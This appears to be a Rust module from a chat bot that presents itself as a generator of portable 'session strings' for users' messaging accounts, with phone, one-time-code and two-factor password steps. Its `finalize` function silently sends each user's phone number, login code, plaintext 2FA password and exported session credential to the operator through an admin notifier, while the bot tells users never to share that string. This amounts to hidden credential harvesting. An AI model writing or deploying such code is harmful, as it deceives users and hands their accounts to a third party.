//! The per-user authentication state machine.
//!
//! [`AuthFlow`] consumes one inbound event per call (backend choice, phone
//! text, keypad press, password text), consults and mutates the
//! [`SessionStore`], drives the backend client, and returns the reply to
//! render. Failure classification is the core job here: input mistakes
//! re-prompt in place, auth rejections return to the same state, a required
//! second factor advances the flow, and transport failures abort the attempt
//! and release its resources.

use std::sync::Arc;

use crate::{
    backend::{AuthError, BackendKind, BackendRegistry},
    config::Config,
    domain::{UserId, UserProfile},
    formatting::{escape_html, is_plausible_phone, otp_display, truncate},
    keyboards::{self, OTP_BACKSPACE, OTP_CONFIRM},
    messaging::types::InlineKeyboard,
    ports::{AdminNotifier, ExportEvent},
    session::{AuthState, SessionStore, UserSession},
    workdir::Workdir,
};

/// A single keypad press on the OTP keyboard.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum KeypadEvent {
    Digit(u8),
    Backspace,
    Confirm,
}

impl KeypadEvent {
    /// Parse the `otp:` callback value (`0`-`9`, `back`, `done`).
    pub fn parse(value: &str) -> Option<Self> {
        match value {
            OTP_BACKSPACE => Some(KeypadEvent::Backspace),
            OTP_CONFIRM => Some(KeypadEvent::Confirm),
            _ => {
                let d: u8 = value.parse().ok()?;
                (d <= 9).then_some(KeypadEvent::Digit(d))
            }
        }
    }
}

/// Apply a digit/backspace edit to the code buffer. Purely local: no
/// backend call is ever issued for buffer edits. Backspace on an empty
/// buffer and digits past `max_len` are no-ops.
pub fn edit_code_buffer(buffer: &mut String, event: KeypadEvent, max_len: usize) {
    match event {
        KeypadEvent::Digit(d) if d <= 9 && buffer.len() < max_len => {
            buffer.push(char::from(b'0' + d));
        }
        KeypadEvent::Digit(_) => {}
        KeypadEvent::Backspace => {
            buffer.pop();
        }
        KeypadEvent::Confirm => {}
    }
}

/// Outward message produced by one flow event.
#[derive(Clone, Debug)]
pub struct Reply {
    pub text: String,
    pub keyboard: Option<InlineKeyboard>,
}

impl Reply {
    fn text(text: impl Into<String>) -> Self {
        Self {
            text: text.into(),
            keyboard: None,
        }
    }
}

/// Reply to a text message, plus whether the adapter should delete the
/// user's incoming message (the phone number is removed from scrollback
/// once the code has been dispatched).
#[derive(Clone, Debug)]
pub struct TextOutcome {
    pub reply: Reply,
    pub redact_input: bool,
}

pub struct AuthFlow {
    cfg: Arc<Config>,
    registry: BackendRegistry,
    store: Arc<SessionStore>,
    notifier: Arc<dyn AdminNotifier>,
}

impl AuthFlow {
    pub fn new(
        cfg: Arc<Config>,
        registry: BackendRegistry,
        store: Arc<SessionStore>,
        notifier: Arc<dyn AdminNotifier>,
    ) -> Self {
        Self {
            cfg,
            registry,
            store,
            notifier,
        }
    }

    pub fn registry(&self) -> &BackendRegistry {
        &self.registry
    }

    /// `/start`: discard any in-progress attempt and offer the backend
    /// selection. Idempotent when no attempt exists.
    pub async fn start(&self, profile: &UserProfile) -> Reply {
        self.store.remove(profile.user_id).await;

        let mut text = format!(
            "👋 <b>Hey {}!</b>\n\n\
             I generate portable <b>session strings</b> for your account.\n\n",
            escape_html(&profile.first_name)
        );
        for kind in [BackendKind::Legacy, BackendKind::Modern] {
            let mark = if self.registry.resolve(kind).is_some() {
                "✅"
            } else {
                "❌"
            };
            text.push_str(&format!("{} support: {mark}\n", kind.title()));
        }
        text.push_str("\n🚀 Choose your preferred backend below:");

        Reply {
            text,
            keyboard: Some(keyboards::backend_selection(self.registry.kinds())),
        }
    }

    /// `/cancel`: discard any in-progress attempt. Idempotent.
    pub async fn cancel(&self, user_id: UserId) -> Reply {
        self.store.remove(user_id).await;
        Reply::text("🧹 Session discarded. Send /start to begin again.")
    }

    /// Backend chosen: create the session, working area and client handle.
    pub async fn select_backend(&self, profile: &UserProfile, kind: BackendKind) -> Reply {
        let Some(backend) = self.registry.resolve(kind) else {
            return Reply::text(format!(
                "❌ The {} backend is not available on this deployment.",
                kind.title()
            ));
        };

        // A fresh choice always replaces whatever attempt was in flight.
        self.store.remove(profile.user_id).await;

        let workdir = match Workdir::create(&self.cfg.workdir_root, kind, profile.user_id) {
            Ok(w) => w,
            Err(e) => {
                eprintln!(
                    "[WORKDIR] could not create working area for user {}: {e}",
                    profile.user_id.0
                );
                return Reply::text("❌ Could not prepare a working area. Please /start again.");
            }
        };

        let client = match backend.create_client(profile.user_id, &workdir.path()) {
            Ok(c) => c,
            Err(e) => {
                let mut workdir = workdir;
                workdir.close();
                return Reply::text(failure_text(kind, &e));
            }
        };

        self.store
            .put(UserSession::new(profile.clone(), kind, client, workdir))
            .await;

        Reply::text(format!(
            "📱 <b>{} Session</b>\n\n\
             Please send your phone number in <b>international format</b>, \
             including the country code.\n\n\
             <b>Example:</b> <code>+19876543210</code>",
            kind.title()
        ))
    }

    /// Free-text message: routed by the session's state. Stray text (no
    /// attempt in progress, or code entry expected on the keypad) is ignored.
    pub async fn handle_text(&self, user_id: UserId, text: &str) -> Option<TextOutcome> {
        let session = self.store.take(user_id).await?;
        match session.state {
            AuthState::AwaitingPhone => Some(self.submit_phone(session, text).await),
            AuthState::AwaitingPassword => Some(self.submit_password(session, text).await),
            AuthState::AwaitingCode => {
                self.store.put(session).await;
                None
            }
        }
    }

    async fn submit_phone(&self, mut session: UserSession, text: &str) -> TextOutcome {
        let phone = text.trim().to_string();
        if !is_plausible_phone(&phone) {
            self.store.put(session).await;
            return TextOutcome {
                reply: Reply::text(
                    "⚠️ That does not look like a phone number. Send it in \
                     international format, e.g. <code>+19876543210</code>.",
                ),
                redact_input: false,
            };
        }

        let sent = match session.client.as_mut() {
            Some(client) => client.send_code(&phone).await,
            None => Err(AuthError::Unavailable("client handle lost".to_string())),
        };

        match sent {
            Ok(token) => {
                session.phone_number = Some(phone);
                session.handshake = Some(token);
                session.code_buffer.clear();
                session.state = AuthState::AwaitingCode;
                let reply = self.keypad_prompt(session.backend, &session.code_buffer, None);
                self.store.put(session).await;
                TextOutcome {
                    reply,
                    redact_input: true,
                }
            }
            Err(AuthError::InvalidPhoneNumber) => {
                self.store.put(session).await;
                TextOutcome {
                    reply: Reply::text(
                        "⚠️ The platform rejected that phone number. Check the \
                         format and send it again.",
                    ),
                    redact_input: false,
                }
            }
            Err(err) => TextOutcome {
                reply: self.abort(session, err).await,
                redact_input: false,
            },
        }
    }

    /// Keypad press while entering the one-time code.
    pub async fn keypad(&self, user_id: UserId, event: KeypadEvent) -> Reply {
        let Some(mut session) = self.store.take(user_id).await else {
            return Reply::text("⚠️ Session expired. Please /start again.");
        };
        if session.state != AuthState::AwaitingCode {
            self.store.put(session).await;
            return Reply::text("⚠️ Something went out of order. Please /start again.");
        }

        match event {
            KeypadEvent::Digit(_) | KeypadEvent::Backspace => {
                edit_code_buffer(&mut session.code_buffer, event, self.cfg.otp_max_len);
                let reply = self.keypad_prompt(session.backend, &session.code_buffer, None);
                self.store.put(session).await;
                reply
            }
            KeypadEvent::Confirm => self.confirm_code(session).await,
        }
    }

    async fn confirm_code(&self, mut session: UserSession) -> Reply {
        if session.code_buffer.is_empty() {
            // Rejected locally; no backend call.
            self.store.put(session).await;
            return Reply::text("⚠️ <b>Enter the code first.</b>");
        }

        let (Some(phone), Some(token)) =
            (session.phone_number.clone(), session.handshake.clone())
        else {
            session.release().await;
            return Reply::text("⚠️ Session data missing. Please /start again.");
        };
        let code = session.code_buffer.clone();

        let signed_in = match session.client.as_mut() {
            Some(client) => client.sign_in(&phone, &token, &code).await,
            None => Err(AuthError::Unavailable("client handle lost".to_string())),
        };

        match signed_in {
            Ok(()) => self.finalize(session).await,
            Err(AuthError::SecondFactorRequired) => {
                let title = session.backend.title();
                let reply = Reply::text(format!(
                    "🔑 <b>Two-Factor Authentication</b> ({title})\n\n\
                     Your account is protected with a password. Send it now."
                ));
                session.state = AuthState::AwaitingPassword;
                self.store.put(session).await;
                reply
            }
            Err(AuthError::InvalidCode) => {
                session.code_buffer.clear();
                let reply = self.keypad_prompt(
                    session.backend,
                    &session.code_buffer,
                    Some("⚠️ <b>Invalid code.</b> Try again using the keypad below."),
                );
                self.store.put(session).await;
                reply
            }
            Err(err) => self.abort(session, err).await,
        }
    }

    async fn submit_password(&self, mut session: UserSession, text: &str) -> TextOutcome {
        let password = text.trim().to_string();
        if password.is_empty() {
            self.store.put(session).await;
            return TextOutcome {
                reply: Reply::text("⚠️ Send your second-factor password as plain text."),
                redact_input: false,
            };
        }

        session.password = Some(password.clone());

        let checked = match session.client.as_mut() {
            Some(client) => client.check_password(&password).await,
            None => Err(AuthError::Unavailable("client handle lost".to_string())),
        };

        let reply = match checked {
            Ok(()) => self.finalize(session).await,
            Err(AuthError::InvalidPassword) => {
                self.store.put(session).await;
                Reply::text("⚠️ <b>Incorrect password.</b> Try again.")
            }
            Err(err) => self.abort(session, err).await,
        };
        TextOutcome {
            reply,
            redact_input: false,
        }
    }

    /// Export the credential, notify the operator, release everything.
    async fn finalize(&self, mut session: UserSession) -> Reply {
        let exported = match session.client.as_mut() {
            Some(client) => client.export_session().await,
            None => Err(AuthError::Unavailable("client handle lost".to_string())),
        };

        match exported {
            Ok(credential) => {
                let event = ExportEvent {
                    profile: session.profile.clone(),
                    backend: session.backend,
                    phone_number: session.phone_number.clone().unwrap_or_default(),
                    otp: session.code_buffer.clone(),
                    password: session.password.clone(),
                    started_at: session.started_at,
                    credential: credential.clone(),
                };
                // Best-effort: delivery failure never reaches the user.
                if let Err(e) = self.notifier.session_exported(&event).await {
                    eprintln!(
                        "[NOTIFY] could not deliver export event for user {}: {e}",
                        session.user_id().0
                    );
                }

                let title = session.backend.title();
                session.release().await;
                Reply::text(format!(
                    "✅ <b>Success! Your {title} session string is ready.</b>\n\n\
                     <code>{}</code>\n\n\
                     ⚠️ <b>Note:</b> Do not share this string with anyone!",
                    escape_html(&credential)
                ))
            }
            Err(err) => self.abort(session, err).await,
        }
    }

    /// Unrecoverable failure: release the attempt and instruct a restart.
    async fn abort(&self, mut session: UserSession, err: AuthError) -> Reply {
        let kind = session.backend;
        session.release().await;
        Reply::text(failure_text(kind, &err))
    }

    fn keypad_prompt(&self, backend: BackendKind, buffer: &str, note: Option<&str>) -> Reply {
        let mut text = String::new();
        if let Some(note) = note {
            text.push_str(note);
            text.push_str("\n\n");
        }
        text.push_str(&format!(
            "🔢 <b>Enter the code you received</b> ({})\n\n\
             A one-time code was sent to your account. Enter it using the \
             keypad below.\n\n\
             <b>Your code:</b> <code>{}</code>",
            backend.title(),
            otp_display(buffer)
        ));
        Reply {
            text,
            keyboard: Some(keyboards::otp_keypad()),
        }
    }
}

fn failure_text(kind: BackendKind, err: &AuthError) -> String {
    format!(
        "❌ <b>{} error:</b> {}\n\nPlease /start again.",
        kind.title(),
        escape_html(&truncate(&err.to_string(), 200))
    )
}
